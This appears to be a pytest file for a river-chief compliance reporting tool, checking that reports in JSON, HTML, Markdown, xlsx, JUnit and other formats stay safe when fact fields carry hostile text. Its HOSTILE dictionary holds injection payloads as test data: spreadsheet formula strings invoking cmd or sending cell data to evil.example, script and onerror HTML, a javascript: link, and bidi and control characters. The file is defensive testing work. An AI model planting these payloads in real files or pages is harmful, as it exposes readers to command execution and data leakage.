"""Reports are safe to open whatever the facts hold (docs/report.md, "Safe to open").

Each hostile string is written into six fact fields of the example district (a person's name, a
unit's name, a jurisdiction's name, a meeting's document number and one of its decisions, an
inspection problem's description), each tagged with its field, and the audit is rendered in every
format and both languages. Each format must keep its own safety property and still show the
text: JSON, JSON lines and Parquet give the exact strings back; the text report holds no control
character; Markdown and HTML give exactly the elements of the untouched example (no markup from a
fact); JUnit XML parses; the xlsx workbook holds no formula and shows the text unchanged.
"""

from __future__ import annotations

import datetime as dt
import io
import json
import re
import shutil
import unicodedata
import xml.etree.ElementTree as ET
import zipfile
from collections import Counter
from collections.abc import Iterator
from functools import cache
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import openpyxl
import polars as pl
import pytest
from markdown_it import MarkdownIt

import hezhang_rules as hz
from hezhang_rules.report import build_context, render_report

ROOT = Path(__file__).resolve().parents[2]
EXAMPLE = ROOT / "src" / "hezhang_rules" / "packs" / "qinghemen" / "example"
AS_OF = dt.date(2022, 1, 10)

HOSTILE = {
    "formula_eq": '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "formula_plus": "+1+cmd|' /C calc'!A0",
    "formula_minus": "-2+3*cmd|' /C notepad'!'A1'",
    "formula_at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula_tab": "\t=1+1",
    "formula_cr": "\r=1+1\n=2+2",
    "formula_fullwidth": "＝１＋１＋＠ＳＵＭ（Ａ１）",
    "c0_controls": "a\x00b\x01c\x08d\x0be\x0cf\x1b[31mred\x1b[0m\x7f",
    "c1_nonchars": "x\x85y\x9bz\ufffe\uffff",
    "xml_specials": "]]><![CDATA[<x>&amp;&#0;\"'</x>",
    "html_script": "</td></script><script>alert(1)</script><img src=x onerror=alert(2)>",
    "markdown": "| a | b |\n\n[link](javascript:alert(1)) ![i](http://e/x.png) *em* _u_ `c` "
    "<b>b</b>\\",
    "bidi": "\u202eevil\u202c \u2066x\u2069 \u200b\u200d",
    "line_separators": "l1\u2028l2\u2029l3\r\nl4",
    "astral": "𠀀😀\U0010fffd",
}
# field: (file, the example's text, the text with the value in it)
FIELDS = {
    "person": ("structure.yaml", "name: 赵文博", "name: {}"),
    "unit": ("structure.yaml", "name: 清河门区河长制办公室", "name: {}"),
    "jurisdiction": ("structure.yaml", "    name: 河西镇\n", "    name: {}\n"),
    "docno": ("meetings.yaml", "document_number: 清河长办纪〔2021〕1号", "document_number: {}"),
    "decision": ("meetings.yaml", "- 印发《清河门区2021年河长制工作要点》", "- {}"),
    "problem": (
        "inspections.yaml",
        'description: "河西村桥下游约300米河道内堆放生活垃圾约30立方米"',
        "description: {}",
    ),
}
HOLDERS = ("person", "unit", "jurisdiction")  # in every format; the rest in the explanations
HOLDER_IDS = {"person": "p-zhao-wenbo", "unit": "u-office", "jurisdiction": "j-hexi"}
FORMULA_STARTS = tuple("=+-@\t\r\n＝＋－＠")
PEOPLE_FORMATS = ("text", "markdown", "html", "xlsx", "junit")
CASES = [
    *((name, fmt, lang) for name in HOSTILE for fmt in PEOPLE_FORMATS for lang in ("zh", "en")),
    *((name, fmt, "zh") for name in HOSTILE for fmt in ("json", "jsonl", "parquet")),
]


def _yaml_quoted(text: str) -> str:
    """A YAML double-quoted scalar in ASCII: every other character as an escape."""
    out = []
    for c in text:
        if c in '"\\':
            out.append("\\" + c)
        elif 0x20 <= ord(c) < 0x7F:
            out.append(c)
        elif ord(c) <= 0xFFFF:
            out.append(f"\\u{ord(c):04x}")
        else:
            out.append(f"\\U{ord(c):08x}")
    return '"' + "".join(out) + '"'


def _value(hostile: str, field: str) -> str:
    return f"{hostile}⟦{field}⟧"


def _shown(text: str) -> str:
    """The documented replacements: C0 (but tab, LF, CR) and DEL as control pictures; C1,
    surrogates, U+FFFE and U+FFFF as U+FFFD."""
    out = []
    for c in text:
        n = ord(c)
        if n < 0x20 and c not in "\t\n\r":
            out.append(chr(0x2400 + n))
        elif n == 0x7F:
            out.append("\u2421")
        elif 0x80 <= n <= 0x9F or 0xD800 <= n <= 0xDFFF or n in (0xFFFE, 0xFFFF):
            out.append("\ufffd")
        else:
            out.append(c)
    return "".join(out)


def _one_line(text: str) -> str:
    shown = _shown(text).replace("\r\n", " ")
    return "".join(" " if c in "\r\n\u2028\u2029" else c for c in shown)


PACK = ROOT / "src" / "hezhang_rules" / "packs" / "qinghemen"
ARTICLES = (
    "pack.yaml",
    "art_005.yaml",
    "art_006.yaml",
    "art_016.yaml",
    "art_019.yaml",
    "art_024.yaml",
)
"""Where the six fields reach findings (a township, held by art. 24's evaluation deadline; the
chief, the office, the meeting's minutes, the inspection's problem): a quarter of the findings,
so each format renders fast."""


@pytest.fixture(scope="module")
def worlds(tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    """The small pack (under ``"pack"``), then one fact folder per hostile string (and the
    untouched example under ``""``)."""
    pack = tmp_path_factory.mktemp("pack")
    for name in ARTICLES:
        shutil.copy(PACK / name, pack / name)
    out = {"pack": str(pack), "": str(EXAMPLE)}

    for name, hostile in HOSTILE.items():
        folder = tmp_path_factory.mktemp(name)
        for f in EXAMPLE.glob("*.yaml"):
            shutil.copy(f, folder / f.name)
        for field, (file, old, new) in FIELDS.items():
            path = folder / file
            text = path.read_text(encoding="utf-8")
            assert text.count(old) == 1, (file, old)
            path.write_text(
                text.replace(old, new.format(_yaml_quoted(_value(hostile, field)))),
                encoding="utf-8",
            )
        out[name] = str(folder)
    return out


@cache
def _plan(pack: str) -> hz.Plan:
    return hz.compile_rules(hz.load_rules(pack))


@cache
def _audit(pack: str, folder: str) -> tuple[hz.Report, hz.FactSet]:
    facts = hz.load_facts([folder])
    return hz.evaluate(_plan(pack), facts, AS_OF), facts


@cache
def _render(pack: str, folder: str, fmt: str, lang: str) -> str | bytes:
    report, facts = _audit(pack, folder)
    ctx = build_context(facts, report, lang)
    return render_report(report, _plan(pack), fmt, lang, context=ctx)


def _text(data: str | bytes) -> str:
    assert isinstance(data, str)
    data.encode("utf-8")  # writable as UTF-8
    return data


class _Elements(HTMLParser):
    """Every start tag with its attribute names, and all text and attribute values."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: Counter[tuple[str, tuple[str, ...]]] = Counter()
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags[(tag, tuple(sorted(k for k, _ in attrs)))] += 1
        self.text += [v for _, v in attrs if v is not None]

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def _elements(page: str) -> _Elements:
    parser = _Elements()
    parser.feed(page)
    parser.close()
    return parser


@cache
def _base_elements(page: str) -> _Elements:
    return _elements(page)


def _strings(data: Any) -> Iterator[str]:
    if isinstance(data, str):
        yield data
    elif isinstance(data, dict):
        for v in data.values():
            yield from _strings(v)
    elif isinstance(data, list):
        for v in data:
            yield from _strings(v)


def _markdown_html(md: str) -> str:
    return MarkdownIt("commonmark").enable("table").enable("strikethrough").render(md)


def _check_text(out: str, hostile: str) -> None:
    bad = [c for c in out if unicodedata.category(c) == "Cc" and c not in "\n\t"]
    assert not bad, bad
    assert not set(out) & {"\u2028", "\u2029", "\ufffe", "\uffff"}
    for field in HOLDERS:
        assert _one_line(_value(hostile, field)) in out, field


def _check_json(out: str, hostile: str, lines: bool) -> None:
    docs = [json.loads(x) for x in out.split("\n")[:-1]] if lines else [json.loads(out)]
    assert out.endswith("\n") and "\r" not in out  # JSON escapes CR and LF in strings
    strings = {s for d in docs for s in _strings(d)}
    for field in HOLDERS:
        assert _value(hostile, field) in strings, field  # exact: holder.name


def _check_parquet(data: str | bytes, hostile: str) -> None:
    assert isinstance(data, bytes)
    strings = set(_strings(pl.read_parquet(io.BytesIO(data)).to_dicts()))
    for field in HOLDERS:
        assert _value(hostile, field) in strings, field


def _check_html(page: str, base: str, hostile: str, fields: tuple[str, ...]) -> None:
    got, want = _elements(page), _base_elements(base)
    assert got.tags == want.tags  # no element or attribute came from a fact value
    seen = "\n".join(got.text)
    for field in fields:
        assert _shown(_value(hostile, field)) in seen, field
    assert not [c for c in page if unicodedata.category(c) == "Cc" and c not in "\n\t\r"]


def _check_markdown(md: str, base: str, hostile: str) -> None:
    assert "\r" not in md and not set(md) & {"\u2028", "\u2029"}
    got, want = _elements(_markdown_html(md)), _base_elements(_markdown_html(base))
    assert got.tags == want.tags  # same tables, cells, and no link, image or HTML from a fact
    seen = "".join(got.text)
    for field in HOLDERS:
        assert _one_line(_value(hostile, field)) in seen, field


def _check_junit(out: str, hostile: str) -> None:
    root = ET.fromstring(out.encode("utf-8"))
    seen = [t for el in root.iter() for t in (el.text or "", *el.attrib.values())]
    # JUnit names the holders of failures only, and in the example no jurisdiction holds a breach
    # (the meeting duties are the office's since issue 16): the person and the unit do
    for field in ("person", "unit"):
        assert any(_shown(_value(hostile, field)) in t for t in seen), field
    try:
        from lxml import etree  # type: ignore[import-not-found]
    except ImportError:
        return
    etree.fromstring(out.encode("utf-8"))


_CHART_RANGE = re.compile(r"'[^']+'!\$?[A-Z]+\$?\d+(:\$[A-Z]+\$\d+)?")


def _formulas(name: str, root: ET.Element) -> list[ET.Element]:
    """The formulas of a part; a chart's ``c:f`` elements name its data (a range of one of our
    sheets, e.g. ``'汇总'!$C$12:$C$40``) and are checked to be only that."""
    found = [e for e in root.iter() if e.tag.rsplit("}", 1)[-1] == "f"]
    if name.startswith("xl/charts/"):
        assert all(_CHART_RANGE.fullmatch(e.text or "") for e in found), name
        return []
    return found


def _check_xlsx(data: str | bytes, hostile: str) -> None:
    assert isinstance(data, bytes)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.endswith(".xml") or name.endswith(".rels"):
                root = ET.fromstring(z.read(name))  # every part is well-formed XML
                formulas = _formulas(name, root)
                assert not formulas, name
    wb = openpyxl.load_workbook(io.BytesIO(data))
    values = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.coordinate
                if isinstance(cell.value, str):
                    values.add(cell.value)
                    if cell.value.startswith(FORMULA_STARTS):
                        assert cell.quotePrefix, (ws.title, cell.coordinate, cell.value)
    for field in HOLDERS:
        # shown unchanged, but that a cell breaks lines with LF only
        assert _shown(_value(hostile, field)).replace("\r\n", "\n").replace("\r", "\n") in values


@pytest.mark.parametrize(("name", "fmt", "lang"), CASES)
def test_report_is_safe(worlds: dict[str, str], name: str, fmt: str, lang: str) -> None:
    hostile = HOSTILE[name]
    data = _render(worlds["pack"], worlds[name], fmt, lang)
    if fmt == "xlsx":
        _check_xlsx(data, hostile)
    elif fmt == "parquet":
        _check_parquet(data, hostile)
    elif fmt in ("json", "jsonl"):
        _check_json(_text(data), hostile, lines=fmt == "jsonl")
    elif fmt == "junit":
        _check_junit(_text(data), hostile)
    elif fmt == "text":
        _check_text(_text(data), hostile)
    elif fmt == "markdown":
        _check_markdown(_text(data), _text(_render(worlds["pack"], worlds[""], fmt, lang)), hostile)
    else:
        base = _text(_render(worlds["pack"], worlds[""], fmt, lang))
        _check_html(_text(data), base, hostile, tuple(FIELDS))


def _world(tmp_path: Path, replace: dict[str, str]) -> str:
    folder = tmp_path / "facts"
    folder.mkdir()
    for f in EXAMPLE.glob("*.yaml"):
        text = f.read_text(encoding="utf-8")
        for old, new in replace.items():
            text = text.replace(old, new)
        (folder / f.name).write_text(text, encoding="utf-8")
    return str(folder)


def test_an_id_starting_with_minus_is_text_in_xlsx(worlds: dict[str, str], tmp_path: Path) -> None:
    """Ids may start with ``-`` (a formula start): such cells keep the quote-prefix style."""
    folder = _world(tmp_path, {"p-zhao-wenbo": "-1-zhao"})
    data = _render(worlds["pack"], folder, "xlsx", "zh")
    _check_xlsx_no_formula(data)
    wb = openpyxl.load_workbook(io.BytesIO(data))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value]
    ids = [c for c in cells if isinstance(c.value, str) and c.value.startswith("-1-zhao")]
    assert ids and all(c.data_type == "s" and c.quotePrefix for c in ids)
    finding_ids = [c for c in cells if isinstance(c.value, str) and "/-1-zhao/" in c.value]
    assert finding_ids  # the finding ids hold it too (not at the start: no style needed)


def _check_xlsx_no_formula(data: str | bytes) -> None:
    assert isinstance(data, bytes)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            assert not _formulas(name, ET.fromstring(z.read(name))), name


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_text_longer_than_a_cell_is_cut_with_a_note(
    worlds: dict[str, str], tmp_path: Path, lang: str
) -> None:
    """Excel cells hold 32,767 characters (UTF-16 units); longer text is cut, visibly."""
    name = "赵" * 20_000 + "😀" * 10_000  # 40,000 UTF-16 units, 30,000 characters
    folder = _world(tmp_path, {"name: 赵文博": f"name: {name}"})
    data = _render(worlds["pack"], folder, "xlsx", lang)
    assert isinstance(data, bytes)
    wb = openpyxl.load_workbook(io.BytesIO(data))
    cut = [
        c.value
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if isinstance(c.value, str) and c.value.startswith("赵" * 100)
    ]
    assert cut
    note = "（已截断：全文30000字符" if lang == "zh" else "(cut: 30000 characters in all"
    for value in cut:
        assert len(value.encode("utf-16-le")) // 2 <= 32_767
        assert note in value
    report, _ = _audit(worlds["pack"], folder)
    assert name in {f.holder.name for f in report.findings}  # the report itself keeps it all


def test_too_many_rows_for_a_sheet_continue_on_the_next(
    worlds: dict[str, str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A table longer than a sheet continues on the next sheet, never past the row limit."""
    from hezhang_rules.cli import main
    from hezhang_rules.report import xlsx

    monkeypatch.setattr(xlsx, "MAX_ROWS", 50)  # the real limit, 1,048,576, takes minutes
    out = tmp_path / "report.xlsx"
    args = ["check", str(EXAMPLE), "--as-of", "2022-01-10", "--format", "xlsx"]
    assert main([*args, "--rules", worlds["pack"], "--output", str(out)]) == 1
    wb = openpyxl.load_workbook(out)
    parts = [n for n in wb.sheetnames if n.startswith("检查结果")]
    assert len(parts) > 1 and all(ws.max_row <= 50 for ws in wb.worksheets)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("a\ud800b", "a\ufffdb"),  # a lone surrogate (the fact model refuses it; paths may not)
        ("\udcff\ud83d", "\ufffd\ufffd"),
        ("x\x00\x1b\x7f\x9f\ufffe\uffff", "x\u2400\u241b\u2421\ufffd\ufffd\ufffd"),
        ("tab\tlf\ncr\r", "tab\tlf\ncr\r"),  # XML holds these
    ],
)
def test_holdable_text(text: str, shown: str) -> None:
    from hezhang_rules.report.safe import holdable, json_text

    assert holdable(text) == shown == _shown(text)
    holdable(text).encode("utf-8")
    written = json_text(json.dumps(text, ensure_ascii=False))
    written.encode("utf-8")
    assert json.loads(written) == text.replace("\ud800", "\ufffd").replace(
        "\udcff", "\ufffd"
    ).replace("\ud83d", "\ufffd")


@pytest.mark.parametrize("code", ["a`b", "``x``", "`", "a|b"])
def test_markdown_code_spans_hold_backticks_and_pipes(code: str) -> None:
    from hezhang_rules.report.safe import markdown_code

    html = _markdown_html(f"| h |\n|---|\n| {markdown_code(code)} |\n")
    root = _elements(html)
    assert root.tags[("code", ())] == 1 and root.tags[("td", ())] == 1
    assert code in root.text


@pytest.mark.parametrize(
    "fmt", ["text", "json", "jsonl", "markdown", "html", "xlsx", "junit", "parquet"]
)
def test_a_pack_path_that_is_not_utf8_never_reaches_the_report(
    tmp_path: Path, capsys: Any, fmt: str
) -> None:
    """A path was the one way a lone surrogate reached a report (Linux names are bytes; Python
    decodes a non-UTF-8 byte as a surrogate). Rule locations are now pack-relative (the pack's
    checked `pack:` name and its checked file name), so the folder's name is in no format."""
    import os

    from hezhang_rules.cli import main

    pack = tmp_path / os.fsdecode(b"pack\xff")
    pack.mkdir()
    for name in ("pack.yaml", "art_005.yaml"):
        shutil.copy(PACK / name, pack / name)
    out = tmp_path / f"report.{fmt}"
    args = ["check", str(EXAMPLE), "--as-of", "2022-01-10", "--format", fmt, "--lang", "en"]
    code = main([*args, "--rules", str(pack), "--output", str(out)])
    assert "Traceback" not in capsys.readouterr().err
    assert code == 1  # violations found, not a crash
    data = out.read_bytes()
    if fmt == "xlsx":
        _check_xlsx_no_formula(data)
        wb = openpyxl.load_workbook(io.BytesIO(data))
        data = "\n".join(
            str(c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row
        ).encode()
    elif fmt == "parquet":
        data = "\n".join(_strings(pl.read_parquet(io.BytesIO(data)).to_dicts())).encode()
    text = data.decode("utf-8")  # strict: no surrogate was written
    assert "\ufffd" not in text
    assert str(tmp_path) not in text
    if fmt not in ("text", "markdown"):  # the two that give no rule's source
        assert "qinghemen/art_005.yaml" in text


@pytest.mark.parametrize("name", list(HOSTILE))
def test_explain_and_todo_text_hold_no_control_character(worlds: dict[str, str], name: str) -> None:
    """``explain`` prints the deciding facts' fields (the document number, the decisions) and
    ``todo`` the holders: each value on one line, with no control character."""
    from hezhang_rules.report.explain import explain, render_explanation
    from hezhang_rules.report.table import FindingsTable
    from hezhang_rules.report.todo import render_todo, render_todo_json

    hostile = HOSTILE[name]
    report, facts = _audit(worlds["pack"], worlds[name])
    plan = _plan(worlds["pack"])
    for lang in ("zh", "en"):
        ctx = build_context(facts, report, lang)
        finding = next(f for f in report.findings if "mtg-2021-001" in f.evidence)
        text = render_explanation(explain(finding, plan, ctx, report.as_of, lang), lang)
        _check_no_control(text)
        for field in ("docno", "decision"):
            assert _one_line(_value(hostile, field)) in text, field
        table = FindingsTable.of_report(report, plan)
        todo = render_todo(table, plan, ctx.holders, 30, lang)
        _check_no_control(todo)
        rows = json.loads(render_todo_json(table, ctx.holders, 30))["items"]
        names = {r["holder"]["id"]: r["holder"]["name"] for r in rows}
        listed = [f for f, fact_id in HOLDER_IDS.items() if fact_id in names]
        assert listed
        for field in listed:
            assert names[HOLDER_IDS[field]] == _value(hostile, field)  # exact in JSON
            assert _one_line(_value(hostile, field)) in todo


def _check_no_control(text: str) -> None:
    text.encode("utf-8")
    assert not [c for c in text if unicodedata.category(c) == "Cc" and c not in "\n\t"]
    assert not set(text) & {"\u2028", "\u2029", "\ufffe", "\uffff"}
